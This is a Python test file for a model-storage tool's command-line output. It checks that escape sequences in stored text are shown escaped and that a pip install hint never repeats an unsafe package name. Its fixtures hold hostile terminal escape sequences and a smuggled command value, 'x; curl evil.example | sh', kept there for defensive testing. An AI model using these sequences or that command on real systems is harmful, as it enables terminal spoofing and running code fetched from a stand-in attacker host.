"""Text stored on a shelf never reaches the terminal raw: escape sequences are shown, not obeyed."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from modelshelf.terminal import install_hint, safe, serializer_package, valid_distribution_name

#: Retitles the terminal, clears the screen, returns to column 0 to overwrite a line, rings, and
#: (C1 CSI, bidi override) the forms that do not start with ESC.
HOSTILE = "\x1b]0;pwned\x07\x1b[2J\rOK\x08\x9b31m\u202eevil\x7f"
RAW = ("\x1b", "\x07", "\r", "\x08", "\x9b", "\u202e", "\x7f")


def test_safe_escapes_every_control_character_visibly() -> None:
    assert safe("\x1b[31mred") == "\\x1b[31mred"
    assert safe(HOSTILE) == "\\x1b]0;pwned\\x07\\x1b[2J\\x0dOK\\x08\\x9b31m\\u202eevil\\x7f"
    assert safe("one\ntwo") == "one\\x0atwo"
    assert safe("one\ntwo\x1b", newlines=True) == "one\ntwo\\x1b"
    assert safe("café 日本 tab\there") == "café 日本 tab\\x09here"
    assert safe(42) == "42"


@pytest.mark.parametrize("name", ["modelshelf-sklearn", "a", "Zope.Interface", "x_y-z.1"])
def test_valid_distribution_names_are_advised(name: str) -> None:
    assert valid_distribution_name(name)
    assert serializer_package(name) == name
    assert install_hint(name) == f"install it with `pip install {name}`"


@pytest.mark.parametrize(
    "name",
    [
        "",
        "-x",
        "x-",
        "x; curl evil.example | sh",
        "x\x1b]0;t\x07",
        "../x",
        "x y",
        "x==1",
        None,
        3,
        "a" * 201,
    ],
)
def test_other_distribution_names_are_never_repeated(name: object) -> None:
    assert not valid_distribution_name(name)
    assert serializer_package(name) == "an unknown serializer package"
    assert "pip install" not in install_hint(name) and "unknown serializer package" in install_hint(
        name
    )


@pytest.fixture
def hostile_shelf(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """A shelf whose every free-text field (and a file name, and serializer fields) is hostile."""
    import modelshelf

    monkeypatch.setenv("MODELSHELF_USER", f"ana{HOSTILE}")
    model = tmp_path / "model"
    model.mkdir()
    # Manifests refuse C0 controls in file paths, not C1 ones, DEL or bidi overrides.
    (model / "w\x9b31m\u202eevil\x7f.bin").write_bytes(b"w")
    shelf = modelshelf.open(str(tmp_path / "shelf"), cache=tmp_path / "cache")
    shelf.upload(
        "m",
        model,
        description=f"first line\nsecond {HOSTILE}",
        tags={f"t{HOSTILE}": HOSTILE},
        metadata={"owner": HOSTILE},
        params={"p": HOSTILE},
    )
    shelf.set_alias("m", "prod", 1)
    # Who did what is written as found, too (the user name is looked up once per process).
    folder = tmp_path / "shelf" / "models" / "m"
    manifest = next((folder / "_versions").glob("*.json"))
    _edit(
        manifest,
        created_by=f"ana{HOSTILE}",
        serializer={
            **json.loads(manifest.read_text())["serializer"],
            "distribution": HOSTILE,
            "distribution_version": HOSTILE,
        },
    )
    _edit(folder / "_aliases" / "prod.json", set_by=f"ana{HOSTILE}")
    for event in (folder / "_log").glob("*.json"):
        _edit(event, by=f"ana{HOSTILE}")
    return {"MODELSHELF_URL": str(tmp_path / "shelf"), "MODELSHELF_CACHE": str(tmp_path / "cache")}


def _edit(path: Path, **changes: object) -> None:
    data = json.loads(path.read_text())
    data.update(changes)
    path.chmod(0o644)
    path.write_text(json.dumps(data))


def _run(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "modelshelf", *args],
        capture_output=True,
        text=True,
        env={**os.environ, **env},
        check=False,
        timeout=120,
    )


@pytest.mark.parametrize(
    "args", [("ls",), ("ls", "m"), ("info", "m"), ("history", "m"), ("alias", "ls", "m")]
)
def test_listings_show_stored_text_escaped(
    hostile_shelf: dict[str, str], args: tuple[str, ...]
) -> None:
    result = _run(*args, env=hostile_shelf)
    assert result.returncode == 0, result.stderr
    for raw in RAW:
        assert raw not in result.stdout, (raw, result.stdout)
    if args != ("ls",):
        assert "\\x1b]0;pwned\\x07" in result.stdout


def test_info_keeps_the_description_on_its_own_indented_lines(
    hostile_shelf: dict[str, str],
) -> None:
    lines = _run("info", "m", env=hostile_shelf).stdout.splitlines()
    at = next(i for i, line in enumerate(lines) if line.startswith("  description: "))
    assert lines[at] == "  description: first line"
    assert lines[at + 1].startswith("    second \\x1b]0;pwned")


@pytest.mark.parametrize(
    "args", [("info", "m", "--json"), ("ls", "m", "--json"), ("history", "m", "--json")]
)
def test_json_output_is_exact_and_inert(
    hostile_shelf: dict[str, str], args: tuple[str, ...]
) -> None:
    result = _run(*args, env=hostile_shelf)
    assert result.returncode == 0, result.stderr
    for raw in RAW[
        :-1
    ]:  # json.dumps escapes C0 controls and (ensure_ascii) all non-ASCII; DEL is inert
        assert raw not in result.stdout
    parsed = json.loads(result.stdout)
    if args[0] == "info":
        assert parsed["description"] == f"first line\nsecond {HOSTILE}"
        assert parsed["tags"] == {f"t{HOSTILE}": HOSTILE}
        assert parsed["created_by"] == f"ana{HOSTILE}"


def test_error_messages_quoting_stored_text_are_one_inert_line(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from click.testing import CliRunner
    from modelshelf.cli import cli
    from modelshelf.errors import ModelshelfError
    from modelshelf.shelf import Shelf

    def get(self: Shelf, ref: str) -> None:
        raise ModelshelfError(f"stored {HOSTILE}\nError: a fake second line")

    monkeypatch.setattr(Shelf, "get", get)
    result = CliRunner().invoke(cli, ["--shelf", "unused-shelf", "info", "m"])
    assert result.exit_code == 1
    assert result.stderr.count("\n") == 1
    assert result.stderr.startswith("Error: stored \\x1b]0;pwned\\x07")
    assert "a fake second line" in result.stderr and not any(raw in result.stderr for raw in RAW)
